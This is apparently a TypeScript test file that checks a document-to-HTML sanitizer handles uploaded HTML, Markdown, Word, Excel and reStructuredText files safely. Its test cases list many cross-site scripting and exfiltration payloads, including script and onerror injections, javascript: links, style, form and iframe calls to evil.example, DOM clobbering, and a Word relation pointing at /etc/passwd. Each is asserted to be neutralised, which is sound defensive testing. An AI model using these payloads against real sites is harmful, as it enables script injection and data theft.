import ExcelJS from 'exceljs'
import fc from 'fast-check'
import { parse } from 'parse5'
import { describe, expect, test } from 'vitest'
import { bytesOf, docx, paragraph, zipOf } from '../../../test/support/made-documents.ts'
import { isRefusal } from '../../kernel/result.ts'
import { pageOf } from './page-of.ts'

const pageFrom = async (name: string, bytes: Uint8Array) => {
  const page = await pageOf({ name, bytes })
  if (isRefusal(page)) throw new Error(page.message)
  return page
}
const html = async (source: string, name = 'guide.html') =>
  (await pageFrom(name, bytesOf(source))).html

/** Everything in a page by which it could reach out of itself. */
const reaching = (page: string): readonly string[] => {
  const found: string[] = []
  const walk = (node: { readonly [name: string]: unknown }): void => {
    const name = String(node['nodeName'])
    if (
      /^(script|style|link|meta|base|iframe|frame|object|embed|form|input|button|svg|math|video|audio|template|noscript)$/.test(
        name,
      )
    )
      found.push(name)
    for (const one of (node['attrs'] ?? []) as readonly { name: string; value: string }[]) {
      const harmless =
        ['colspan', 'rowspan', 'start', 'alt', 'title', 'class', 'id'].includes(one.name) ||
        (one.name === 'href' && one.value.startsWith('#d-')) ||
        (one.name === 'src' && one.value.startsWith('data:image/'))
      if (!harmless) found.push(`${name} ${one.name}=${one.value}`)
      if (one.name === 'id' && !one.value.startsWith('d-')) found.push(`id ${one.value}`)
    }
    for (const child of (node['childNodes'] ?? []) as readonly (typeof node)[]) walk(child)
  }
  // The wrapper that a parser adds has no attributes and is none of these, but for an empty head.
  walk(parse(page) as unknown as { readonly [name: string]: unknown })
  return found
}

const pixel =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

describe('The page of a document', () => {
  test.each([
    ['a script', '<p>Text</p><script>parent.document.title = "x"</script>'],
    ['an event handler', '<p onclick="alert(1)" onmouseover=alert(1)>Text</p>'],
    ['a picture that fails', '<img src=x onerror=alert(1)>Text'],
    ['a link that runs', '<a href="javascript:alert(1)">Text</a>'],
    ['a link that runs, written otherwise', '<a href=" JaVaScRiPt&colon;alert(1)">Text</a>'],
    ['a style that fetches', '<p style="background:url(https://evil.example/x)">Text</p>'],
    ['a style sheet', '<style>@import url(https://evil.example)</style><p>Text</p>'],
    ['a linked style sheet', '<link rel=stylesheet href=https://evil.example><p>Text</p>'],
    ['a drawing that runs', '<svg onload=alert(1)><script>alert(1)</script></svg><p>Text</p>'],
    [
      'a foreign object',
      '<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>Text',
    ],
    ['mathematics', '<math><mtext><img src=x onerror=alert(1)></mtext></math><p>Text</p>'],
    [
      'a page that leads away',
      '<meta http-equiv=refresh content="0;url=//evil.example"><p>Text</p>',
    ],
    ['another base', '<base href="https://evil.example/"><p>Text</p>'],
    ['a form', '<form action=//evil.example><input name=code><button>Text</button></form>'],
    ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe><p>Text</p>'],
    ['an object', '<object data=//evil.example></object><embed src=//evil.example><p>Text</p>'],
    ['a template', '<template><img src=x onerror=alert(1)></template><p>Text</p>'],
    [
      'a title that ends early',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">Text',
    ],
    ['a picture elsewhere', '<img src="https://evil.example/pixel.png" alt="x"><p>Text</p>'],
    ['a picture without a scheme', '<img src="//evil.example/pixel.png"><p>Text</p>'],
    [
      'several sources',
      '<img srcset="//evil.example/a 1x"><picture><source srcset=//b></picture>Text',
    ],
    ['a drawing as a picture', '<img src="data:image/svg+xml;base64,PHN2Zy8+"><p>Text</p>'],
    ['a page as a picture', '<img src="data:text/html;base64,PGI+"><p>Text</p>'],
    ['names of the browser', '<p id="document">Text</p><a name=location>x</a><img name=cookie>'],
    ['a ping', '<a href="#x" ping="//evil.example">Text</a>'],
  ])('lets nothing of %s through', async (_what, source) => {
    const page = await html(source)
    expect(reaching(page)).toEqual([])
    expect(page).toContain('Text')
    // The same in Markdown, which may hold HTML.
    const marked = await html(`${source}\n\n[Text](javascript:alert(1))\n`, 'guide.md')
    expect(reaching(marked)).toEqual([])
  })

  test('lets nothing through, whatever is written', async () => {
    const bits = fc.constantFrom(
      ...[
        '<',
        '>',
        '"',
        "'",
        '/',
        '=',
        ' ',
        'a',
        'img',
        'svg',
        'script',
        'style',
        'math',
        'p',
        'td',
      ],
      ...['onerror', 'src', 'href', 'javascript:', 'x', '<!--', '-->', '<![CDATA[', ']]>', '&lt;'],
      ...['table', 'select', 'template', 'noscript', 'title', 'textarea', 'annotation-xml', '&#0;'],
    )
    await fc.assert(
      fc.asyncProperty(fc.array(bits, { maxLength: 60 }), async (parts) => {
        expect(reaching(await html(`<p>${parts.join('')}`))).toEqual([])
      }),
      { numRuns: 300 },
    )
  })

  test('keeps how the text is set', async () => {
    const page = await html(
      '<h2 id=net>Network</h2><ul><li>Port <b>22</b></ul><table><tr><td colspan=2>a</td></tr></table><a href="#net">above</a>',
    )
    expect(page).toContain('<h2 id="d-net">Network</h2>')
    expect(page).toContain('<li>Port <b>22</b></li>')
    expect(page).toContain('<td colspan="2">a</td>')
    expect(page).toContain('<a href="#d-net">above</a>')
  })

  test('says where a link leads, and of a picture why it is not shown', async () => {
    const page = await html('<a href="https://maker.example/x">here</a><img src=a.png alt=Ports>')
    expect(page).toContain('title="Leads to https://maker.example/x;')
    expect(page).toContain('The picture &quot;Ports&quot; is not shown: it lies outside the file.')
  })

  test('shows pictures that the file holds, until they are too large together', async () => {
    expect(await html(`<img src="${pixel}" alt="dot">`)).toContain(`<img src="${pixel}" alt="dot">`)
    const large = `data:image/png;base64,${'A'.repeat(20_000_000)}`
    const page = await html(`<img src="${large}"><img src="${large}">`)
    expect(page.length).toBeLessThan(21_000_000)
  })

  test('draws a Word document with its own pictures and follows no relation out of it', async () => {
    const drawing = (attribute: string) =>
      `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:docPr id="1" name="P" descr="Network"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ${attribute}/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`
    const relation = (id: string, target: string, mode = '') =>
      `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="${target}" ${mode}/>`
    const body = `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${paragraph('Open port 22.')}${drawing('r:embed="rIn"')}${drawing('r:link="rOut"')}</w:body></w:document>`
    const bytes = await zipOf({
      '[Content_Types].xml': bytesOf(
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="png" ContentType="image/png"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
      ),
      '_rels/.rels': bytesOf(
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
      ),
      'word/_rels/document.xml.rels': bytesOf(
        `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relation('rIn', 'media/a.png')}${relation('rOut', 'file:///etc/passwd', 'TargetMode="External"')}</Relationships>`,
      ),
      'word/media/a.png': new Uint8Array(Buffer.from(pixel.split(',')[1] ?? '', 'base64')),
      'word/document.xml': bytesOf(body),
    })
    const { html: page } = await pageFrom('guide.docx', bytes)
    expect(page).toContain('<p>Open port 22.</p>')
    expect(page).toContain(`<img src="${pixel}" alt="Network">`)
    expect(page).not.toContain('root:')
    expect(reaching(page)).toEqual([])
    expect((await pageFrom('plain.docx', await docx(paragraph('Only text.')))).html).toContain(
      'Only text.',
    )
  })

  test('draws the sheets of a workbook as tables, bounded', async () => {
    const book = new ExcelJS.Workbook()
    const sheet = book.addWorksheet('Ports <1>')
    sheet.addRow(['22/tcp', '<script>alert(1)</script>'])
    for (let row = 0; row < 7_000; row++) sheet.addRow(Array.from({ length: 10 }, () => 'x'))
    const page = await pageFrom('ports.xlsx', new Uint8Array(await book.xlsx.writeBuffer()))
    expect(page.html).toContain('<h2>Ports &lt;1&gt;</h2>')
    expect(page.html).toContain('<td>22/tcp</td>')
    expect(reaching(page.html)).toEqual([])
    expect(page.notes.join()).toContain('60,000 cells')
  }, 30_000)

  test('draws reStructuredText block by block, and text as text', async () => {
    expect(await html('Network\n=======\n\nOpen port 22.\n', 'guide.rst')).toContain(
      '<h1>Network</h1>',
    )
    expect(await html('a < b\n  <b>', 'notes.txt')).toContain('a &lt; b\n  &lt;b&gt;')
  })

  test('says what is not drawn', async () => {
    expect(await pageOf({ name: 'a.bin', bytes: new Uint8Array(500) })).toMatchObject({
      code: 'page/not-drawn',
    })
    expect(await pageOf({ name: 'a.docx', bytes: bytesOf('PK\u0003\u0004broken') })).toMatchObject({
      code: expect.stringMatching(/zip|page/),
    })
  })

  test('cuts a page that is nested without end', async () => {
    const page = await pageFrom('deep.html', bytesOf(`${'<div>'.repeat(100_000)}Text`))
    expect(page.notes.join()).toContain('nested')
  })
})
